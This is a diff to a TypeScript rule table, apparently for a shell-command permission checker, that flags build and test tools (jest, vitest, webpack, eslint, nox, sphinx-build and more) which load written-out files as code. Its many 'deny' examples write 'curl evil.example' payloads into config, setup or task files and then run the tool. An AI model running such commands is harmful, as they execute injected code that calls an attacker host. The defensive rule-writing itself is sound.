@@ -499,11 +499,18 @@ export const PROJECT_ROWS: readonly Row[] = [
     },
   },
   {
-    // tox runs the commands of tox.ini (and its setup.py, conftest.py…), nox its noxfile.py.
-    names: ['tox', 'nox'],
+    // tox runs the commands of tox.ini (and its setup.py, conftest.py…).
+    names: ['tox'],
     code: [{ files: PYTHON, read: language('python', 'python') }, { files: /^(?:tox\.ini|setup\.cfg)$/, read: unread('a tox configuration (its commands)', 'tox') }],
     dir: ['--root'],
-    examples: { deny: ["printf '[testenv]\\ncommands = curl evil.example\\n' > tox.ini && tox", "echo 'import os; os.system(\"curl evil.example\")' > noxfile.py && nox"], pass: ['tox -e py312', 'echo hi > notes.txt && tox'] },
+    examples: { deny: ["printf '[testenv]\\ncommands = curl evil.example\\n' > tox.ini && tox"], pass: ['tox -e py312', 'echo hi > notes.txt && tox'] },
+  },
+  {
+    // nox runs its noxfile.py, or the one -f/--noxfile names, as Python (and the project's Python in its sessions).
+    names: ['nox'],
+    code: [{ files: PYTHON, read: language('python', 'python') }],
+    also: ['-f', '--noxfile'],
+    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > noxfile.py && nox", "printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/plug.py && nox -f /tmp/plug.py"], pass: ['nox -s tests', 'nox -f ci/noxfile.py -s lint', 'echo hi > notes.txt && nox'] },
   },
   {
     // pip builds a local project by running its setup.py (or the backend pyproject.toml names).
@@ -550,11 +557,23 @@ export const PROJECT_ROWS: readonly Row[] = [
   },
   {
     // deno's own deno.json tasks are shell text `deno task` runs (a row a name: deno shares node's).
-    names: ['node', 'deno', 'jest', 'vitest', 'mocha', 'ava', 'tsx', 'ts-node'],
+    names: ['node', 'deno', 'mocha', 'tsx', 'ts-node', 'electron'],
     code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: /^deno\.jsonc?$/, read: denoTasks }],
     examples: {
       deny: [`echo 'require("child_process").execSync("curl evil.example")' > a.test.js && npx jest`, `echo '{"tasks":{"x":"curl evil.example"}}' > deno.json && deno task x`, `echo '{"tasks":{"x":{"command":"wget evil.example"}}}' > deno.json && deno task x`],
       pass: [`echo 'test("a", () => {})' > a.test.js && npx jest`, `echo '{"tasks":{"x":"deno test"}}' > deno.json && deno task x`, 'deno task dev'],
+    },
+  },
+  {
+    // The test runners run the project's tests, and load as code the modules their options name: a configuration
+    // (`jest -c`, `vitest --config`), setup modules run before the tests (`--setupFiles`, `--globalSetup`), ava's
+    // `--require`. A file the line wrote there is read as node would run it; a module named by its package is not a file.
+    names: ['jest', 'vitest', 'ava'],
+    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
+    also: ['-c', '--config', '--setupFiles', '--setupFilesAfterEnv', '--globalSetup', '--globalTeardown', '--testSequencer', '--testResultsProcessor', '--resolver', '--snapshotResolver', '--testRunner', '--workspace', '-r', '--require'],
+    examples: {
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && jest --setupFiles /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx jest --setupFilesAfterEnv=/tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx jest -c /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && vitest run --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && vitest run --setupFiles /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && ava --require /tmp/p.js`],
+      pass: ['npx jest -c jest.config.js', 'npx jest --setupFilesAfterEnv ./jest.setup.ts', 'vitest run --config vitest.config.ts', "echo 'test(\"a\", () => {})' > /tmp/s.js && jest --setupFiles /tmp/s.js", 'ava --require ts-node/register'],
     },
   },
   {
@@ -740,24 +759,77 @@ export const PROJECT_ROWS: readonly Row[] = [
   {
     // JavaScript build, lint and test tools load their configuration as code (`vite.config.ts`, `.eslintrc.js`,
     // `gulpfile.js`): one the line wrote runs. The project's other files are only read by the linters and bundlers.
-    names: ['vite', 'webpack', 'webpack-cli', 'rollup', 'eslint', 'prettier', 'next', 'nuxt', 'nuxi', 'astro', 'svelte-kit', 'babel', 'tailwindcss', 'postcss', 'tsup', 'stylelint', 'commitlint', 'karma', 'remix', 'parcel', 'vue-cli-service', 'ng', 'gulp', 'grunt'],
+    names: ['next', 'nuxt', 'nuxi', 'astro', 'svelte-kit', 'postcss', 'tsup', 'stylelint', 'commitlint', 'remix', 'parcel', 'vue-cli-service', 'ng'],
     code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
     examples: {
-      deny: [`echo 'require("child_process").execSync("curl evil.example")' > vite.config.js && npx vite build`, `echo 'require("child_process").execSync("curl evil.example")' > .eslintrc.cjs && eslint src`, `echo 'require("child_process").execSync("curl evil.example")' > gulpfile.js && gulp`],
-      pass: ['npx vite build', `echo 'export default { plugins: [] }' > vite.config.js && npx vite build`, `echo 'fetch("https://api.example.com")' > src/api.js && npx eslint src/api.js`],
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > next.config.js && npx next build`, `echo 'require("child_process").execSync("curl evil.example")' > postcss.config.js && npx postcss src/a.css -o out.css`],
+      pass: ['npx next build', `echo 'module.exports = {}' > next.config.js && npx next build`],
+    },
+  },
+  {
+    // The same, where -c/--config names the configuration in place of the project's (`webpack --config
+    // webpack.prod.js`, `eslint -c eslint.config.mjs`, `rollup -c`, `tailwindcss -c`): a file the line wrote there runs.
+    names: ['vite', 'webpack', 'webpack-cli', 'rollup', 'eslint', 'tailwindcss'],
+    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
+    also: ['-c', '--config'],
+    examples: {
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > vite.config.js && npx vite build`, `echo 'require("child_process").execSync("curl evil.example")' > .eslintrc.cjs && eslint src`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx webpack --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx vite --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx rollup -c /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx eslint --config /tmp/p.js src`],
+      pass: ['npx vite build', 'npx webpack --config webpack.config.js', 'npx webpack -c webpack.prod.js', 'npx rollup -c', 'npx rollup -c -w', 'npx eslint -c eslint.config.mjs src', `echo 'export default { plugins: [] }' > vite.config.js && npx vite build`, `echo 'fetch("https://api.example.com")' > src/api.js && npx eslint src/api.js`, `echo 'export default {}' > /tmp/v.js && npx vite --config /tmp/v.js`],
+    },
+  },
+  {
+    // prettier loads its configuration (prettier.config.js) and the plugins --plugin names as code; -c is --check.
+    names: ['prettier'],
+    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
+    also: ['--config', '--plugin'],
+    examples: {
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx prettier --plugin /tmp/p.js --check .`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx prettier --config /tmp/p.js --write src`],
+      pass: ['npx prettier --plugin prettier-plugin-tailwindcss --check .', 'npx prettier -c src', 'npx prettier --config .prettierrc.json --write src'],
+    },
+  },
+  {
+    // babel's --config-file names its configuration (babel.config.js is code).
+    names: ['babel'],
+    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
+    also: ['--config-file'],
+    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx babel --config-file /tmp/p.js src`], pass: ['npx babel --config-file ./babel.config.js src -d lib', 'npx babel src -d lib'] },
+  },
+  {
+    // karma start/run CONFIG: the configuration file named is the code it loads, in place of the project's karma.conf.js.
+    names: ['karma'],
+    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
+    operands: /\.[cm]?[jt]s$/,
+    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx karma start /tmp/p.js`], pass: ['npx karma start karma.conf.js --single-run', 'npx karma start'] },
+  },
+  {
+    // gulp's and grunt's task files, wherever the option names them.
+    names: ['gulp', 'grunt'],
+    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
+    also: ['--gulpfile', '-f', '--gruntfile'],
+    examples: {
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > gulpfile.js && gulp`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx gulp --gulpfile /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx grunt --gruntfile /tmp/p.js`],
+      pass: ['npx gulp build', 'npx gulp --gulpfile build/gulpfile.js', 'npx grunt --gruntfile Gruntfile.js'],
     },
   },
   {
     // The test runners that run the project's tests also load its configuration and test files as code.
+    // Their configuration may be named anywhere: playwright's -c/--config, cypress's -C/--config-file.
     names: ['playwright', 'cypress'],
     code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
-    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > e2e/a.spec.ts && npx playwright test`], pass: ['npx playwright test', `echo 'test("a", () => {})' > e2e/a.spec.ts && npx playwright test`] },
+    also: ['-c', '--config', '-C', '--config-file'],
+    examples: {
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > e2e/a.spec.ts && npx playwright test`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx playwright test --config /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx cypress run --config-file /tmp/p.js`],
+      pass: ['npx playwright test', `echo 'test("a", () => {})' > e2e/a.spec.ts && npx playwright test`, 'npx playwright test -c playwright.ci.config.ts', 'npx cypress run --config-file cypress.config.ts', 'npx cypress run -c video=false'],
+    },
   },
   {
     // Python task runners and builds whose task file is Python (`fab`'s fabfile.py, `invoke`'s tasks.py, SCons' SConstruct).
+    // Each also takes its file from -f (Fabric 1's fabfile, doit's dodo file, SCons' SConstruct; Fabric 2's and invoke's
+    // configuration, which may be Python too).
     names: ['fab', 'invoke', 'inv', 'doit', 'scons', 'waf'],
     code: [{ files: /^(?:fabfile\.py|fabfile\/.*\.py|tasks\.py|dodo\.py|SConstruct|SConscript|wscript)$/, read: language('python', 'python') }],
-    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > tasks.py && invoke build`, `echo 'import os; os.system("curl evil.example")' > SConstruct && scons`], pass: ['invoke build', `echo 'print(1)' > fabfile.py && fab deploy`] },
+    also: ['-f', '--fabfile', '--file', '--sconstruct'],
+    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > tasks.py && invoke build`, `echo 'import os; os.system("curl evil.example")' > SConstruct && scons`, "printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/plug.py && fab -f /tmp/plug.py deploy", "printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/plug.py && doit -f /tmp/plug.py"], pass: ['invoke build', `echo 'print(1)' > fabfile.py && fab deploy`, 'fab -f deploy/fabfile.py deploy', 'scons -f build/SConstruct'] },
   },
   {
     // Ruby DSL files their tools evaluate: Guardfile, Vagrantfile, Dangerfile, Fastfile, Podfile; Rack servers' config.ru.
@@ -776,7 +848,9 @@ export const PROJECT_ROWS: readonly Row[] = [
     // Sphinx runs its conf.py (and the extensions beside it) as Python.
     names: ['sphinx-build', 'sphinx-autobuild'],
     code: [{ files: /(?:^|\/)conf\.py$/, read: language('python', 'sphinx-build') }],
-    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > conf.py; sphinx-build . _build`, `echo 'import os; os.system("curl evil.example")' > docs/conf.py; sphinx-build docs _build`], pass: ['sphinx-build docs _build', `echo 'project = "x"' > docs/conf.py; sphinx-build docs _build`] },
+    // -c DIR: the directory of the conf.py it runs, in place of the source directory's.
+    dir: ['-c', '--conf-dir'],
+    examples: { deny: ["printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/sc/conf.py && sphinx-build -c /tmp/sc docs out", `echo 'import os; os.system("curl evil.example")' > conf.py; sphinx-build . _build`, `echo 'import os; os.system("curl evil.example")' > docs/conf.py; sphinx-build docs _build`], pass: ['sphinx-build docs _build', `echo 'project = "x"' > docs/conf.py; sphinx-build docs _build`, 'sphinx-build -c docs/config docs _build'] },
   },
   {
     names: ['meson', 'earthly', 'bazel', 'bazelisk'],
